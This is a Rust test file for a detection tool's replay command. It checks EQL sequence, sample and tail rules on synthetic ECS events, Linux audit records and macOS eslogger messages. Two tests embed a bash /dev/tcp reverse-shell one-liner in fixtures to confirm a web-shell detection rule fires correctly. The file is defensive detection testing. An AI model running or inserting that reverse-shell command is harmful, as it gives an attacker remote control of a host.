//! Sequences, samples and pipes through `execsentry replay`, as a user runs them: multi-event
//! ECS NDJSON and Linux audit logs in, one alert per result out, with every event of the result
//! under `execsentry.sequence.events`.

mod cli_support;

use std::path::Path;

use serde_json::{json, Value};

use cli_support::{run, TempDir};
use execsentry::document::lookup;

const EXAMPLE_RULE: &str = "rules/examples/web_server_shell_then_dev_tcp.toml";
const EXAMPLE_ID: &str = "6f0e1c2a-5b7d-4c3e-9a41-2d8e7f3b9c10";

fn rule(name: &str, id: &str, query: &str, extra: &str) -> String {
    format!(
        "[rule]\nname = \"{name}\"\nrule_id = \"{id}\"\ndescription = \"test\"\nseverity = \"medium\"\n\
         risk_score = 47\ntype = \"eql\"\nlanguage = \"eql\"\n{extra}\nquery = '''\n{query}\n'''\n"
    )
}

fn ndjson(events: &[Value]) -> String {
    events.iter().map(|e| format!("{e}\n")).collect()
}

fn alerts(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn at<'a>(v: &'a Value, path: &str) -> &'a Value {
    lookup(v.as_object().expect("alert object"), path).unwrap_or_else(|| panic!("no {path} in {v}"))
}

fn replay(dir: &TempDir, rules: &str, input: &str) -> cli_support::Run {
    let rules = dir.write("rules/r.toml", rules);
    let input = dir.write("events.ndjson", input);
    replay_files(&rules, "auto", &input)
}

/// `execsentry replay --format FORMAT` of `input` with only the rules at `rules`.
fn replay_files(rules: &Path, format: &str, input: &Path) -> cli_support::Run {
    run(&[
        "replay".as_ref(),
        "--format".as_ref(),
        format.as_ref(),
        "--no-builtin-rules".as_ref(),
        "--rules".as_ref(),
        rules.as_os_str(),
        input.as_os_str(),
    ])
}

fn proc_event(ts: &str, id: &str, host: &str, name: &str, pid: i64, ppid: i64) -> Value {
    json!({
        "@timestamp": ts,
        "event": {"id": id, "kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"id": host, "name": host, "os": {"type": "linux"}},
        "process": {"name": name, "pid": pid, "parent": {"pid": ppid}},
        "user": {"name": "www-data"}
    })
}

#[test]
fn a_sequence_alert_carries_every_event_and_the_last_one_on_top() {
    let dir = TempDir::new("seq-alert");
    let rules = rule(
        "Shell then curl",
        "seq-1",
        "sequence by host.id with maxspan=10s\n  [process where process.name == \"sh\"] by process.pid\n  [process where process.name == \"curl\"] by process.parent.pid",
        "",
    );
    let input = ndjson(&[
        proc_event("2026-11-28T06:00:00.000Z", "e1", "web-1", "sh", 100, 1),
        proc_event("2026-11-28T06:00:01.000Z", "e2", "web-2", "curl", 300, 100),
        proc_event("2026-11-28T06:00:02.000Z", "e3", "web-1", "curl", 101, 99),
        proc_event("2026-11-28T06:00:03.000Z", "e4", "web-1", "curl", 102, 100),
        proc_event("2026-11-28T06:00:20.000Z", "e5", "web-1", "curl", 103, 100),
    ]);
    let r = replay(&dir, &rules, &input);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let alerts = alerts(&r.stdout);
    assert_eq!(alerts.len(), 1, "{}", r.stdout);
    let a = &alerts[0];
    // The last event's own fields at the top level, alert fields beside them.
    assert_eq!(at(a, "event.id"), "e4");
    assert_eq!(at(a, "process.pid"), 102);
    assert_eq!(at(a, "event.kind"), "alert");
    assert_eq!(at(a, "rule.id"), "seq-1");
    assert_eq!(at(a, "rule.name"), "Shell then curl");
    assert_eq!(at(a, "event.severity"), 47);
    assert_eq!(at(a, "execsentry.sequence.kind"), "sequence");
    let events = at(a, "execsentry.sequence.events").as_array().unwrap();
    let ids: Vec<&str> = events
        .iter()
        .map(|e| at(e, "event.id").as_str().unwrap())
        .collect();
    assert_eq!(ids, ["e1", "e4"]);
    // Each event is whole, as read.
    assert_eq!(at(&events[0], "user.name"), "www-data");
    assert_eq!(at(&events[0], "event.kind"), "event");
    assert_eq!(
        at(a, "execsentry.sequence.join_keys"),
        &json!(["web-1", 100])
    );
    assert!(
        at(a, "message")
            .as_str()
            .unwrap()
            .ends_with("(the last of 2 events)."),
        "{a}"
    );
    assert!(
        r.stderr.contains("stateful:    1 rules"),
        "summary shows the stateful rules: {}",
        r.stderr
    );
}

#[test]
fn a_trailing_missing_event_delays_the_alert_until_time_or_input_runs_out() {
    let dir = TempDir::new("seq-missing");
    let rules = rule(
        "Start without stop",
        "seq-2",
        "sequence by host.id with maxspan=1m\n  [process where process.name == \"start\"]\n  ![process where process.name == \"stop\"]",
        "",
    );
    let input = ndjson(&[
        proc_event("2026-11-28T06:00:00.000Z", "h1-start", "h1", "start", 1, 0),
        proc_event("2026-11-28T06:00:00.000Z", "h2-start", "h2", "start", 1, 0),
        proc_event("2026-11-28T06:00:30.000Z", "h2-stop", "h2", "stop", 2, 0),
        proc_event("2026-11-28T06:00:40.000Z", "h3-start", "h3", "start", 1, 0),
        // 1 min + the 2 s late-event tolerance after h1's start: h1 is due.
        proc_event("2026-11-28T06:01:02.001Z", "h9-other", "h9", "other", 1, 0),
    ]);
    let r = replay(&dir, &rules, &input);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let got: Vec<String> = alerts(&r.stdout)
        .iter()
        .map(|a| {
            let events = at(a, "execsentry.sequence.events").as_array().unwrap();
            assert_eq!(events[1], json!({"missing": true}));
            at(&events[0], "event.id").as_str().unwrap().to_owned()
        })
        .collect();
    // h1 when the later event arrived, h3 at the end of input; h2 was stopped in time.
    assert_eq!(got, ["h1-start", "h3-start"]);
}

#[test]
fn samples_and_tail_pipes() {
    let dir = TempDir::new("seq-sample");
    let rules = rule(
        "Sample",
        "smp-1",
        "sample by host.id\n  [process where process.name == \"a\"]\n  [process where process.name == \"b\"]",
        "",
    ) + "\n";
    let dir_rules = dir.write("rules/sample.toml", &rules);
    dir.write(
        "rules/tail.toml",
        &rule(
            "Last a",
            "tail-1",
            "process where process.name == \"a\" | tail 1",
            "",
        ),
    );
    let input = dir.write(
        "events.ndjson",
        &ndjson(&[
            proc_event("2026-11-28T06:00:00.000Z", "b1", "h", "b", 1, 0),
            proc_event("2026-11-28T06:00:01.000Z", "a1", "h", "a", 2, 0),
            proc_event("2026-11-28T06:00:02.000Z", "a2", "h", "a", 3, 0),
        ]),
    );
    let r = replay_files(dir_rules.parent().unwrap(), "auto", &input);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let alerts = alerts(&r.stdout);
    let summary: Vec<(String, String)> = alerts
        .iter()
        .map(|a| {
            (
                at(a, "rule.id").as_str().unwrap().to_owned(),
                at(a, "event.id").as_str().unwrap().to_owned(),
            )
        })
        .collect();
    // The sample completes at a1, which is on top (events in filter order: a1, b1); the tail
    // comes at the end.
    assert_eq!(
        summary,
        [
            ("smp-1".to_owned(), "a1".to_owned()),
            ("tail-1".to_owned(), "a2".to_owned())
        ]
    );
    let sample_events = at(&alerts[0], "execsentry.sequence.events")
        .as_array()
        .unwrap();
    assert_eq!(at(&sample_events[0], "event.id"), "a1");
    assert_eq!(at(&sample_events[1], "event.id"), "b1");
    assert_eq!(at(&alerts[0], "execsentry.sequence.kind"), "sample");
    // A single event held by tail is an ordinary alert.
    assert!(lookup(alerts[1].as_object().unwrap(), "execsentry.sequence").is_none());
}

#[test]
fn the_throttle_applies_to_sequence_rules() {
    let dir = TempDir::new("seq-throttle");
    let rules = rule(
        "Pairs",
        "seq-3",
        "sequence [process where process.name == \"a\"] [process where process.name == \"b\"]",
        "max_signals = 1\ninterval = \"1h\"",
    );
    let mut events = Vec::new();
    for i in 0..3 {
        events.push(proc_event(
            &format!("2026-11-28T06:00:0{}.000Z", 2 * i),
            "a",
            "h",
            "a",
            1,
            0,
        ));
        events.push(proc_event(
            &format!("2026-11-28T06:00:0{}.000Z", 2 * i + 1),
            "b",
            "h",
            "b",
            1,
            0,
        ));
    }
    let r = replay(&dir, &rules, &ndjson(&events));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(alerts(&r.stdout).len(), 1);
    assert!(
        r.stderr.contains("suppressed:  2 by throttle"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("seq-3 Pairs (max_signals 1 per 1h): 2"),
        "{}",
        r.stderr
    );
}

#[test]
fn the_example_rule_checks_ok_on_both_platforms() {
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(EXAMPLE_RULE);
    let r = run(&[
        "rules".as_ref(),
        "check".as_ref(),
        "--no-builtin-rules".as_ref(),
        "--rules".as_ref(),
        example.as_os_str(),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stdout);
    assert!(r.stdout.contains("linux: fed | macos: fed"), "{}", r.stdout);
    assert_eq!(
        r.stdout.lines().last(),
        Some("1 rule: 1 ok, 0 unsupported, 0 skipped, 0 errors")
    );
}

/// One exec as raw audit.log records (no EOE, as auditd writes them); every argument
/// hex-encoded, as the kernel does for arguments with spaces or quotes.
#[cfg(target_os = "linux")]
fn exec(ts: &str, serial: u32, pid: u32, ppid: u32, exe: &str, args: &[&str]) -> String {
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02X}")).collect::<String>();
    let comm = exe.rsplit('/').next().unwrap();
    let mut out = format!(
        "type=SYSCALL msg=audit({ts}:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid={ppid} pid={pid} auid=33 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=\"{comm}\" exe=\"{exe}\" key=\"execsentry\"\n"
    );
    let argv: String = args
        .iter()
        .enumerate()
        .map(|(i, a)| format!(" a{i}={}", hex(a)))
        .collect();
    out.push_str(&format!(
        "type=EXECVE msg=audit({ts}:{serial}): argc={}{argv}\n",
        args.len()
    ));
    out.push_str(&format!(
        "type=CWD msg=audit({ts}:{serial}): cwd=\"/var/www\"\n"
    ));
    out.push_str(&format!(
        "type=PROCTITLE msg=audit({ts}:{serial}): proctitle={}\n",
        hex(&args.join("\0"))
    ));
    out
}

/// The example rule end to end over Linux audit records: nginx starts `sh`, which within 5 s
/// starts `bash` with a /dev/tcp redirection. A shell started by something else, and a /dev/tcp
/// command 6 s after its web shell, do not alert.
#[cfg(target_os = "linux")]
#[test]
fn example_rule_over_an_audit_log() {
    let dir = TempDir::new("seq-audit");
    let reverse = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let log = [
        exec(
            "1795848210.000",
            500,
            200,
            1,
            "/usr/sbin/nginx",
            &["nginx: worker process"],
        ),
        // Web shell 1: sh from nginx, then bash with /dev/tcp 1.2 s later → alert.
        exec(
            "1795848213.100",
            501,
            201,
            200,
            "/usr/bin/dash",
            &["sh", "-c", &format!("bash -c '{reverse}'")],
        ),
        exec(
            "1795848213.300",
            502,
            210,
            1,
            "/usr/bin/bash",
            &["bash", "-l"],
        ),
        exec(
            "1795848214.300",
            503,
            202,
            201,
            "/usr/bin/bash",
            &["bash", "-c", reverse],
        ),
        // A login shell's child with /dev/tcp: its parent was not started by a web server.
        exec(
            "1795848214.400",
            504,
            211,
            210,
            "/usr/bin/bash",
            &["bash", "-c", reverse],
        ),
        // Web shell 2: the /dev/tcp child comes 6 s later, past maxspan.
        exec(
            "1795848220.000",
            505,
            203,
            200,
            "/usr/bin/dash",
            &["sh", "-c", "id"],
        ),
        exec(
            "1795848226.000",
            506,
            204,
            203,
            "/usr/bin/bash",
            &["bash", "-c", reverse],
        ),
    ]
    .concat();
    let file = dir.write("audit.log", &log);
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(EXAMPLE_RULE);
    let r = replay_files(&example, "auto", &file);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let alerts = alerts(&r.stdout);
    assert_eq!(alerts.len(), 1, "{}\n{}", r.stdout, r.stderr);
    let a = &alerts[0];
    assert_eq!(at(a, "rule.id"), EXAMPLE_ID);
    assert_eq!(at(a, "event.severity"), 73);
    assert_eq!(at(a, "process.pid"), 202);
    assert_eq!(at(a, "process.args"), &json!(["bash", "-c", reverse]));
    assert_eq!(at(a, "process.parent.name"), "dash");
    let events = at(a, "execsentry.sequence.events").as_array().unwrap();
    assert_eq!(events.len(), 2);
    assert_eq!(at(&events[0], "process.pid"), 201);
    assert_eq!(at(&events[0], "process.parent.name"), "nginx");
    assert_eq!(at(&events[1], "process.pid"), 202);
    // The join: the shell's entity id is the bash child's parent entity id.
    assert_eq!(
        at(&events[0], "process.entity_id"),
        at(&events[1], "process.parent.entity_id")
    );
    assert_eq!(
        at(a, "threat.technique.subtechnique.id"),
        &json!(["T1505.003"])
    );
    assert!(r.stderr.contains("events:      7"), "{}", r.stderr);
}

/// One eslogger exec message (event type 9), minimal as the reader accepts it: the target image
/// with its token and its parent's token.
fn es_exec(time: &str, pid: u32, pv: u32, parent: (u32, u32), exe: &str, args: &[&str]) -> String {
    let token = |pid: u32, pv: u32| json!({"pid": pid, "pidversion": pv, "euid": 501, "ruid": 501, "egid": 20, "rgid": 20, "auid": 501, "asid": 100});
    let target = json!({
        "audit_token": token(pid, pv),
        "parent_audit_token": token(parent.0, parent.1),
        "ppid": parent.0,
        "executable": {"path": exe},
        "signing_id": "com.example", "team_id": null, "is_platform_binary": false
    });
    // The instigator is the image being replaced: the same pid, the previous pidversion.
    let mut instigator = target.clone();
    instigator["audit_token"] = token(pid, pv - 1);
    let line = json!({
        "version": 9, "time": time, "event_type": 9, "seq_num": pv,
        "process": instigator,
        "event": {"exec": {"target": target, "args": args}}
    });
    format!("{line}\n")
}

/// The example rule over eslogger messages: the same activity as the audit log above, seen by
/// Endpoint Security. The parent is found by its audit token (pid, pidversion), so the join on
/// entity ids holds across the fork and exec.
#[test]
fn example_rule_over_eslogger() {
    let dir = TempDir::new("seq-eslogger");
    let reverse = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let log = [
        es_exec(
            "2026-11-28T06:43:30.000000000Z",
            200,
            1000,
            (1, 1),
            "/opt/homebrew/bin/nginx",
            &["nginx: worker process"],
        ),
        es_exec(
            "2026-11-28T06:43:33.100000000Z",
            201,
            1011,
            (200, 1000),
            "/bin/sh",
            &["sh", "-c", &format!("bash -c '{reverse}'")],
        ),
        es_exec(
            "2026-11-28T06:43:33.300000000Z",
            210,
            1031,
            (1, 1),
            "/bin/zsh",
            &["-zsh"],
        ),
        es_exec(
            "2026-11-28T06:43:34.300000000Z",
            202,
            1022,
            (201, 1011),
            "/bin/bash",
            &["bash", "-c", reverse],
        ),
        es_exec(
            "2026-11-28T06:43:34.400000000Z",
            211,
            1041,
            (210, 1031),
            "/bin/bash",
            &["bash", "-c", reverse],
        ),
        es_exec(
            "2026-11-28T06:43:40.000000000Z",
            203,
            1051,
            (200, 1000),
            "/bin/sh",
            &["sh", "-c", "id"],
        ),
        es_exec(
            "2026-11-28T06:43:46.000000000Z",
            204,
            1061,
            (203, 1051),
            "/bin/bash",
            &["bash", "-c", reverse],
        ),
    ]
    .concat();
    let file = dir.write("es.ndjson", &log);
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(EXAMPLE_RULE);
    let r = replay_files(&example, "eslogger", &file);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let alerts = alerts(&r.stdout);
    assert_eq!(alerts.len(), 1, "{}\n{}", r.stdout, r.stderr);
    let a = &alerts[0];
    assert_eq!(at(a, "rule.id"), EXAMPLE_ID);
    assert_eq!(at(a, "process.pid"), 202);
    // Endpoint Security's own facts ride along (host.* is the replaying host's).
    assert_eq!(at(a, "macos.es.pidversion"), 1022);
    assert_eq!(at(a, "process.parent.name"), "sh");
    let events = at(a, "execsentry.sequence.events").as_array().unwrap();
    assert_eq!(events.len(), 2);
    assert_eq!(at(&events[0], "process.pid"), 201);
    assert_eq!(at(&events[0], "process.parent.name"), "nginx");
    assert_eq!(
        at(&events[0], "process.entity_id"),
        at(&events[1], "process.parent.entity_id")
    );
}

/// Audit records are process events only, as live: with `--format audit`, a sequence that
/// waits for a network event is not run, so it holds nothing; with `--format auto` the format
/// is only known per input and the sequence runs, holding the partial matches it can never
/// complete.
#[cfg(target_os = "linux")]
#[test]
fn an_audit_replay_does_not_run_sequences_that_need_other_events() {
    let dir = TempDir::new("seq-audit-process-only");
    let rules = dir.write(
        "rules/r.toml",
        &rule(
            "shell then connection",
            "0c1d2e3f-4a5b-4c6d-8e7f-901a2b3c4d5e",
            r#"sequence by process.pid with maxspan=30s
  [process where process.name == "bash"]
  [network where event.action == "connection_attempted"]"#,
            "",
        ),
    );
    let log: String = (0..3)
        .map(|i| {
            exec(
                &format!("1700000000.{i:03}"),
                100 + i,
                4000 + i,
                1,
                "/usr/bin/bash",
                &["bash", "-c", "true"],
            )
        })
        .collect();
    let file = dir.write("audit.log", &log);
    let held = |format: &str| -> String {
        let r = replay_files(&rules, format, &file);
        assert_eq!(r.code, Some(0), "{}", r.stderr);
        assert!(r.stderr.contains("events:      3"), "{}", r.stderr);
        let line = r
            .stderr
            .lines()
            .find(|l| l.contains("partial matches held"))
            .unwrap_or_else(|| panic!("no stateful line in {}", r.stderr))
            .to_owned();
        line
    };
    assert!(
        held("audit").contains(": 0 results, 0 partial matches held"),
        "{}",
        held("audit")
    );
    assert!(
        held("auto").contains(": 0 results, 3 partial matches held"),
        "{}",
        held("auto")
    );
}
